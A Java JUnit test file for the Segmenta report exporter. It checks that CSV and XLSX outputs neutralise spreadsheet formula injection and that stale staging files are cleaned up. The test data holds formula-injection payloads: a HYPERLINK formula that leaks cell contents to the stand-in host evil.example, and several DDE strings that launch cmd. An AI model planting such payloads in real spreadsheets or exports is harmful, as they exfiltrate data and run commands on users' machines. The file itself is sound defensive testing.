/*
 * Copyright (c) 2026 Segmenta contributors
 * SPDX-License-Identifier: EPL-2.0
 */
package org.segmenta.report.tests;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.Reader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.segmenta.model.Project;
import org.segmenta.model.Segment;
import org.segmenta.model.Segmentation;
import org.segmenta.model.persistence.SegmentationFiles;
import org.segmenta.tests.support.Examples;

/**
 * Texts a spreadsheet would run as formulas, in the example's names and assignments: the CSV files
 * prefix them with a quote (numbers stay numbers), the workbook holds them as text cells.
 */
class SpreadsheetSafetyTest {

	private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik her\")";

	@TempDir
	Path folder;

	private Path hostileModel() throws Exception {
		Path model = Examples.modelCopy(folder);
		Project project = SegmentationFiles.load(model);
		Segmentation segmentation = project.getSegmentations().get(0);
		Segment segment = segmentation.getSegments().get(0);
		segment.setName(HYPERLINK);
		segment.setStatement("@SUM(1+1)*cmd|' /C calc'!A0");
		// a weight column named like a formula, as the base beside every share names it
		segmentation.setWeightedBy("=cmd|' /C calc'!A0");
		segmentation.setWeightedTotal(4787.4);
		Files.writeString(folder.resolve("hostile-assignments.csv"), "id,segment,score,note\n"
				+ "1," + segment.getId() + ",-3.5,\"+1+cmd|' /C calc'!A0\"\n"
				+ "2," + segment.getId() + ",+1e-3,=1+2\n"
				+ "3,,4,-\n");
		segmentation.setAssignmentsLocation("hostile-assignments.csv");
		SegmentationFiles.save(project, model);
		return model;
	}

	@Test
	void csvCellsThatWouldRunAreQuotedAndNumbersStay() throws Exception {
		Path model = hostileModel();
		ReportRun run = ReportRun.run(folder, model.toString(), "--out", "out", "--formats", "csv,xlsx");
		assertEquals(0, run.exitCode(), run.err());

		List<CSVRecord> segments = records(folder.resolve("out/report-segments.csv"));
		CSVRecord first = segments.get(1);
		assertEquals("'" + HYPERLINK, first.get(3));
		assertEquals("'@SUM(1+1)*cmd|' /C calc'!A0", first.get(10));
		assertTrue(segments.stream().allMatch(row -> !row.get(3).startsWith("=")));
		assertEquals(List.of("4787.4", "'=cmd|' /C calc'!A0"), List.of(first.get(12), first.get(13)));

		String id = SegmentationFiles.load(model).getSegmentations().get(0).getId();
		List<CSVRecord> assignments = records(folder.resolve("out/report-assignments-" + id + ".csv"));
		assertEquals(List.of("-3.5", "'+1+cmd|' /C calc'!A0"), List.of(assignments.get(1).get(2), assignments.get(1).get(3)));
		assertEquals(List.of("+1e-3", "'=1+2"), List.of(assignments.get(2).get(2), assignments.get(2).get(3)));
		assertEquals(List.of("", "4", "'-"), List.of(assignments.get(3).get(1), assignments.get(3).get(2),
				assignments.get(3).get(3)));

		try (XSSFWorkbook workbook = new XSSFWorkbook(folder.resolve("out/report.xlsx").toFile())) {
			boolean found = false;
			for (Sheet sheet : workbook) {
				for (Row row : sheet) {
					for (Cell cell : row) {
						assertFalse(cell.getCellType() == CellType.FORMULA, sheet.getSheetName() + " " + cell.getAddress());
						if (cell.getCellType() == CellType.STRING && cell.getStringCellValue().equals(HYPERLINK)) {
							found = true;
						}
					}
				}
			}
			assertTrue(found, "the name as text in the workbook");
		}
	}

	@Test
	void staleStagingFilesOfEndedProcessesAreCleanedUp() throws Exception {
		Path out = Files.createDirectories(folder.resolve("out"));
		// a process id above the kernel's limit has ended; pid 1 runs for as long as the machine does
		Path ended = Files.writeString(out.resolve(".report-summary.csv.4194305-9f3a.part"), "half");
		Path olderVersion = Files.writeString(out.resolve(".report.json.5e1d2c3b4a.part"), "half");
		Path running = Files.writeString(out.resolve(".report.json.1-77aa.part"), "half");
		ReportRun run = ReportRun.run(folder, Examples.model().toString(), "--out", "out", "--formats", "csv");
		assertEquals(0, run.exitCode(), run.err());
		assertFalse(Files.exists(ended));
		assertFalse(Files.exists(olderVersion));
		assertTrue(Files.exists(running), "another running report's staging file stays");
		assertTrue(ReportRun.files(out).stream().filter(name -> name.endsWith(".part")).toList()
				.equals(List.of(".report.json.1-77aa.part")), ReportRun.files(out).toString());
	}

	private static List<CSVRecord> records(Path file) throws Exception {
		try (Reader reader = Files.newBufferedReader(file)) {
			return CSVFormat.DEFAULT.parse(reader).getRecords();
		}
	}
}
